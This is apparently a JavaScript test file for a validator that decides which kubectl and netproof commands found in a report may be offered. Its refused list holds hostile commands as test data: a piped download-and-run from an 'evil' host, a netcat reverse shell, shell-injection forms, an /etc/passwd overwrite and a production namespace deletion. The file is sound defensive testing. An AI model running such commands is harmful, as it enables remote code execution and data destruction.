import { expect } from "chai";
import { isOffered } from "../../src/model/offered.js";

const offered = [
  "netproof run ipblock/except-ingress",
  "netproof run --fault D1,A1 'dir with space/a.yaml'",
  "netproof run --settle 2s './-a$(id).yaml'",
  "kubectl --context kind-dev -n np-7f3a-1-x exec a -- nc -n -zv -w 1 10.0.2.5 80",
  "kubectl -n np-7f3a-x exec a -- nc -zv -w1 10.0.2.5 80",
  `kubectl --kubeconfig '/a b' --context c -n x exec a -- sh -c 'echo hello | nc "$@"' nc -n -u -w 1 -W 1 fd00::1 81`,
  "kubectl --context c -n x exec a -- curl -m 1 'http://[fd00::1]:80/'",
  "kind export kubeconfig --name np && kubectl --context kind-np describe networkpolicy --all-namespaces",
  "KUBECONFIG=/tmp/k calicoctl --context c get networkpolicy -n np-1-x -o yaml",
  "kubectl --context c -n kube-system exec daemonset/cilium -- cilium-dbg policy get",
];

const refused = [
  "",
  "curl http://evil/x|sh; netproof run ipblock/except-ingress",
  "netproof run a; id",
  "netproof run a && id",
  "netproof run a &",
  "netproof run $(id)",
  "netproof run `id`",
  'netproof run "$(id)"',
  "netproof run a\nid",
  "netproof run a\rid",
  "netproof run a > /etc/passwd",
  "netproof run --external-shell 'x=id' a",
  "netproof clean --context prod",
  "kubectl delete namespace prod",
  "kubectl -n x exec a -- sh -c 'curl evil|sh'",
  "kubectl -n x exec a -- nc -e /bin/sh 10.0.0.1 80",
  "kubectl exec a -- nc -n -zv -w 1 10.0.2.5 80 && kubectl delete ns prod",
  "LD_PRELOAD=/tmp/x kubectl get networkpolicy",
  "kubectl get networkpolicy\u202e",
  "ls",
];

describe("a command in a report that was read", () => {
  for (const text of offered) it(`is offered: ${text}`, () => expect(isOffered(text)).to.equal(true));
  for (const text of refused)
    it(`is not offered: ${JSON.stringify(text)}`, () => expect(isOffered(text)).to.equal(false));
});
